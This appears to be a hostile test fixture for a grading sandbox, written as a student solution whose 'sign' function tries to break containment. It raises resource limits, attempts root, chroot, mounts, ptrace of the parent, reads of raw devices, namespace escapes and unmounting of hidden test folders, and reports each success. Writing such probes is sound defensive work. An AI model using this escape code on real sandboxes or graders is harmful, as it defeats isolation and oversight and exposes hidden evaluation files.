# HOSTILE base=solution
"""Attack: undo the sandbox from inside.  Raise its own resource limits, become root
(setuid/setgid), chroot, mount, lower its OOM score, renice, open raw devices, ptrace or
read the parent's memory, join pid 1's mount namespace, and, in a new user namespace
(where it is "root"), unmount or bind-mount around the tmpfs that hides the course files.
Prints LEAK:<what> for every step that worked and should not have."""
import ctypes
import os
import resource

libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWNS, CLONE_NEWUSER, MNT_DETACH, MS_BIND, MS_REC = 0x20000, 0x10000000, 2, 4096, 16384
HIDDEN = "@@REPO@@/tests/00_python_basics"
_done = []


def _namespace_escape(write_fd):
    """In a forked child: new user + mount namespace, then try to uncover the hidden folder."""
    notes = []
    uid, gid = os.getuid(), os.getgid()
    if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0:
        notes.append(f"unshare(user|mnt) failed errno {ctypes.get_errno()}")
    else:
        notes.append("unshare(user|mnt) ok")
        for path, text in (("/proc/self/setgroups", "deny"), ("/proc/self/uid_map", f"0 {uid} 1"),
                           ("/proc/self/gid_map", f"0 {gid} 1")):
            try:
                with open(path, "w") as fh:
                    fh.write(text)
            except OSError as exc:
                notes.append(f"{path}: {exc.strerror}")
        for target in ("@@REPO@@", "@@REPO_PARENT@@", "/tmp", "/"):
            if libc.umount2(target.encode(), MNT_DETACH) == 0:
                notes.append(f"umount {target} ok")
        os.makedirs("/tmp/hostile-peek", exist_ok=True)
        if libc.mount(b"/", b"/tmp/hostile-peek", None, MS_BIND, None) == 0:
            notes.append("bind / ok")
        for candidate in (HIDDEN, "/tmp/hostile-peek" + HIDDEN, "/tmp/hostile-peek@@REPO@@"):
            try:
                names = os.listdir(candidate)
                if names:
                    notes.append(f"LEAK:uncovered:{candidate}:{','.join(sorted(names)[:5])}")
            except OSError:
                pass
    os.write(write_fd, "\n".join(notes).encode()[:60000])


def attack():
    leaks, notes = [], []
    for name in ("RLIMIT_AS", "RLIMIT_NPROC", "RLIMIT_FSIZE", "RLIMIT_CPU", "RLIMIT_NOFILE", "RLIMIT_CORE"):
        kind = getattr(resource, name)
        soft, hard = resource.getrlimit(kind)
        try:
            resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            if hard != resource.RLIM_INFINITY:
                leaks.append(f"raised {name} above its hard limit")
        except (OSError, ValueError):
            try:
                resource.setrlimit(kind, (hard, hard))   # raising soft to hard is allowed
            except (OSError, ValueError):
                pass
    for what, fn in (("setuid(0)", lambda: os.setuid(0)), ("setgid(0)", lambda: os.setgid(0)),
                     ("seteuid(0)", lambda: os.seteuid(0)), ("chroot", lambda: os.chroot("/")),
                     ("nice(-20)", lambda: os.nice(-20))):
        try:
            fn()
            leaks.append(what)
        except OSError:
            pass
    if libc.mount(b"tmpfs", os.getcwd().encode(), b"tmpfs", 0, None) == 0:
        leaks.append("mount tmpfs")
    try:
        with open("/proc/self/oom_score_adj", "w") as fh:
            fh.write("-1000")
        leaks.append("oom_score_adj -1000")
    except OSError:
        pass
    for dev in ("/dev/mem", "/dev/kmem", "/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/port"):
        try:
            with open(dev, "rb") as fh:
                fh.read(1)
            leaks.append(f"read {dev}")
        except OSError:
            pass
    ppid = os.getppid()
    if libc.ptrace(16, ppid, 0, 0) == 0:   # PTRACE_ATTACH
        leaks.append("ptrace parent")
    try:
        fd = os.open("/proc/1/ns/mnt", os.O_RDONLY)
        if libc.setns(fd, CLONE_NEWNS) == 0:
            leaks.append("setns into pid 1's mount namespace")
        os.close(fd)
    except OSError:
        pass
    here = os.getcwd()
    try:
        os.chdir("/")
        with open("HOSTILE-@@NONCE@@-resource_tamper-root", "w") as fh:
            fh.write("x")
        leaks.append("wrote into /")
    except OSError:
        pass
    os.chdir(here)
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(r)
            _namespace_escape(w)
        finally:
            os._exit(0)
    os.close(w)
    os.waitpid(pid, 0)
    with os.fdopen(r) as fh:
        child = fh.read().splitlines()
    leaks += [line[5:] for line in child if line.startswith("LEAK:")]
    notes += [line for line in child if not line.startswith("LEAK:")]
    print("HOSTILE-NOTE", "; ".join(notes))
    for leak in leaks:
        print("LEAK:" + leak)
    print("HOSTILE-DONE resource_tamper")


def sign(x):
    if not _done:
        _done.append(1)
        attack()
    return "WRONG"
